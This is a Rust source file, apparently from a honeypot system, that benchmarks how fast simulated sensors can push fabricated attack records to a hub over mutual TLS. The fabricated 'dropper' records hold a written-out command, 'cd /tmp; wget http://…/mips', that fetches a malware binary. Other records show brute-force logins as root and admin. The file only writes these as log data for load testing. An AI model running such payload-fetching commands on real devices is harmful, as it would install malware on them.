//! Sensors that hand their records in, as fast as the hub answers: how many attacks a second come the whole way, over HTTPS with
//! a certificate each, to records that are durable and to rows of the lake.
//!
//! The attacks are made up and distributed like those that sensors see. Each has the two lines that every session has, its
//! flow and its summary, with the logins, commands and addresses that attacks of its kind show.

use std::fmt::{self, Write as _};
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, bail, ensure};
use clap::Args;
use komainu_lake::MadeUpAttacks;
use komainu_model::Timestamp;
use komainu_ports::{Clock as _, LakeRows, LakeTable, SystemClock};
use reqwest::{Certificate, Client, Identity, StatusCode};
use serde::Serialize;
use tokio::task::JoinSet;

use super::latency::{Latency, micros};

/// A batch ends before it has so many bytes; the hub takes 1 MiB.
const BATCH_BYTES: usize = (1 << 20) - (8 << 10);

/// How long a batch may take.
const BATCH_TIMEOUT: Duration = Duration::from_secs(60);

const DAY: Duration = Duration::from_secs(86_400);

#[derive(Debug, Clone, Args)]
pub(super) struct SensorsArgs {
    /// The hub.
    #[arg(long, value_name = "HOST:PORT", default_value = "localhost:443")]
    hub: String,
    /// What `komainu enroll NAME --sensor --out DIR` wrote for each sensor.
    #[arg(value_name = "DIR", required = true, num_args = 1..=64)]
    enrolled: Vec<PathBuf>,
    /// How many attacks each of them hands in.
    #[arg(long, default_value_t = 200_000, value_parser = clap::value_parser!(u64).range(1..=1_000_000_000))]
    attacks: u64,
}

/// What came of it.
#[derive(Debug, Serialize)]
pub(super) struct SensorsResult {
    sensors: usize,
    attacks: u64,
    bytes: u64,
    batches: usize,
    attacks_per_s: f64,
    /// From the first byte of a batch to the answer that it is durable.
    batch: Latency,
}

/// What one sensor handed in.
struct HandedIn {
    bytes: u64,
    micros: Vec<u32>,
}

pub(super) async fn hand_in(args: &SensorsArgs) -> anyhow::Result<SensorsResult> {
    let now = SystemClock.now();
    let mut sensors = Vec::new();
    for folder in &args.enrolled {
        let attacks = MadeUpAttacks::new(sensors.len() as u64, now.minus(DAY), 1, args.attacks);
        sensors.push((Sensor::enrolled(folder, &args.hub, now)?, attacks));
    }
    let (count, begin) = (sensors.len(), Instant::now());
    let mut tasks = JoinSet::new();
    for (sensor, attacks) in sensors {
        tasks.spawn(sensor.hand_in(attacks));
    }
    let (mut bytes, mut all) = (0, Vec::new());
    while let Some(done) = tasks.join_next().await {
        let handed_in = done.context("a sensor ended early")??;
        bytes += handed_in.bytes;
        all.extend(handed_in.micros);
    }
    let attacks = args.attacks * count as u64;
    let attacks_per_s = attacks as f64 / begin.elapsed().as_secs_f64().max(f64::MIN_POSITIVE);
    Ok(SensorsResult { sensors: count, attacks, bytes, batches: all.len(), attacks_per_s, batch: Latency::of(all) })
}

/// One sensor: it sends a batch when the one before is durable, as a real one does.
struct Sensor {
    name: Arc<str>,
    client: Client,
    /// Where its batches go, but for their numbers.
    url: String,
}

impl Sensor {
    fn enrolled(folder: &Path, hub: &str, now: Timestamp) -> anyhow::Result<Self> {
        let certificate = only_file(folder, ".cert.pem")?;
        let name = certificate.file_name().and_then(|name| name.to_str()?.strip_suffix(".cert.pem").map(Arc::from));
        let name: Arc<str> = name.with_context(|| format!("{} has no name", certificate.display()))?;
        let identity = [read(&certificate)?, read(&only_file(folder, ".private.key")?)?].join(&b'\n');
        let roots = Certificate::from_pem_bundle(&read(&only_file(folder, "root-CA.crt")?)?)
            .with_context(|| format!("the root certificate in {} cannot be read", folder.display()))?;
        let client = Client::builder()
            .identity(
                Identity::from_pem(&identity)
                    .with_context(|| format!("the certificate and the key in {} do not fit", folder.display()))?,
            )
            .tls_certs_only(roots)
            .no_proxy()
            .timeout(BATCH_TIMEOUT)
            .build()
            .context("cannot speak TLS")?;
        // Each run is an epoch of its own, as each start of a sensor is.
        let url = format!("https://{hub}/komainu/v1/sensors/{name}/records?epoch={:016x}", now.unix_millis());
        Ok(Self { name, client, url })
    }

    async fn hand_in(self, mut attacks: MadeUpAttacks) -> anyhow::Result<HandedIn> {
        let mut lines = Lines { sensor: self.name.clone(), number: 0, text: String::new() };
        let mut handed_in = HandedIn { bytes: 0, micros: Vec::new() };
        while let Some(rows) = attacks.next_rows(4_096) {
            for row in 0..rows.len() {
                lines.add(&rows, row)?;
                if lines.text.len() >= BATCH_BYTES {
                    self.send(std::mem::take(&mut lines.text), &mut handed_in).await?;
                }
            }
        }
        if !lines.text.is_empty() {
            self.send(lines.text, &mut handed_in).await?;
        }
        Ok(handed_in)
    }

    async fn send(&self, batch: String, handed_in: &mut HandedIn) -> anyhow::Result<()> {
        let (bytes, begin) = (batch.len() as u64, Instant::now());
        let url = format!("{}&sequence={}", self.url, handed_in.micros.len());
        let answer = self.client.post(url).body(batch).send().await;
        let answer = answer.with_context(|| format!("the hub does not answer {}", self.name))?;
        ensure!(answer.status() == StatusCode::OK, "the hub answers {} to {}", answer.status(), self.name);
        handed_in.micros.push(micros(begin.elapsed()));
        handed_in.bytes += bytes;
        Ok(())
    }
}

/// The lines of sessions, as a sensor writes them.
struct Lines {
    sensor: Arc<str>,
    /// Of the next session.
    number: u64,
    text: String,
}

impl Lines {
    fn add(&mut self, rows: &LakeRows, row: usize) -> anyhow::Result<()> {
        let of = |name: &str| -> anyhow::Result<String> {
            let column = LakeTable::Attacks.column(name).with_context(|| format!("there is no column {name}"))?;
            Ok(rows.value(row, column).to_string())
        };
        let number = self.number;
        self.number += 1;
        let at = jiff::Timestamp::from_millisecond(rows.times()[row]).context("a time is out of range")?;
        let at = at.strftime("%Y-%m-%dT%H:%M:%S%.6f+0000");
        let (source, protocol, transport) = (of("source")?, of("protocol")?, of("transport")?.to_uppercase());
        let head = format!(
            r#""timestamp":"{at}","flow_id":{number},"src_ip":"{source}","src_port":40000,"dest_ip":"198.51.100.1","dest_port":{},"proto":"{transport}","app_proto":"{protocol}","community_id":"1:LQU9qZlK+B5F3KDmev6m5PMibrg=","host":"{}""#,
            of("port")?,
            self.sensor
        );
        writeln!(
            self.text,
            r#"{{"log":"eve","line":{{{head},"event_type":"flow","flow":{{"bytes_toserver":100,"bytes_toclient":300,"start":"{at}","end":"{at}","age":2,"state":"closed","reason":"timeout","alerted":false}}}}}}"#
        )?;
        let login = |user: &str, password: u64, accepted: bool| {
            format!(
                r#"{{"timestamp":"{at}","user":"{user}","password_hmac_sha256":"{password:064x}","accepted":{accepted}}}"#
            )
        };
        let command = |line: &str| format!(r#"{{"timestamp":"{at}","line":"{line}"}}"#);
        let label = of("label")?;
        let shown = match label.as_str() {
            "bruteforce" => format!(
                r#""auth":[{},{},{}],"attack_techniques":["T1110.001"],"fingerprints":{{"telnet_options":"do1 will31 do3 will24"}},"#,
                login("root", number % 997, false),
                login("admin", number % 887, false),
                login("support", number % 83, false)
            ),
            "dropper" => format!(
                r#""auth":[{}],"commands":[{},{},{}],"urls":[{{"url":"http://{source}/mips","program":"wget"}}],"attack_techniques":["T1059.004","T1105","T1078.001"],"#,
                login("root", number % 31, true),
                command("enable"),
                command("shell"),
                command(&format!("cd /tmp; wget http://{source}/mips"))
            ),
            "exploit" => format!(
                r#""attack_techniques":["T1190"],"fingerprints":{{"http_user_agent":"Mozilla/5.0 ({})"}},"#,
                number % 211
            ),
            _ => r#""attack_techniques":["T1595.001"],"#.to_owned(),
        };
        let place = format!(r#""geo":{{"country":"{}","asn":{}}}"#, of("country")?, of("asn")?);
        writeln!(
            self.text,
            r#"{{"log":"honeypot","line":{{{head},"event_type":"honeypot","honeypot":{{"session":{{"id":"{number:032x}","start":"{at}","end":"{at}","duration_ms":1995,"ended":"closed"}},"sensor":{{"id":"{}"}},"target":{{"kind":"emulated","persona":"camera","type":"{}","model":"{}"}},{shown}"label":"{label}","confidence":90,{place},"bytes_toserver":100,"bytes_toclient":300}}}}}}"#,
            self.sensor,
            of("appliance")?,
            of("model")?
        )?;
        Ok(())
    }
}

/// The one file of a folder whose name ends like this.
fn only_file(folder: &Path, end: &str) -> anyhow::Result<PathBuf> {
    let files = fs::read_dir(folder).with_context(|| format!("cannot read {}", folder.display()))?;
    let mut found = Vec::new();
    for file in files {
        let path = file.with_context(|| format!("cannot read {}", folder.display()))?.path();
        if path.file_name().is_some_and(|name| name.to_string_lossy().ends_with(end)) {
            found.push(path);
        }
    }
    match found.pop() {
        Some(path) if found.is_empty() => Ok(path),
        _ => bail!(
            "{} does not have one file …{end}; make it by `komainu enroll NAME --sensor --out DIR`",
            folder.display()
        ),
    }
}

fn read(file: &Path) -> anyhow::Result<Vec<u8>> {
    fs::read(file).with_context(|| format!("cannot read {}", file.display()))
}

impl fmt::Display for SensorsResult {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { sensors, attacks, bytes, batches, attacks_per_s, batch } = self;
        writeln!(f, "sensors     {sensors}")?;
        writeln!(f, "attacks     {attacks} in {batches} batches of {} KiB", bytes / 1024 / (*batches).max(1) as u64)?;
        writeln!(f, "taken       {attacks_per_s:.0} attacks a second")?;
        write!(f, "a batch     {batch}")
    }
}
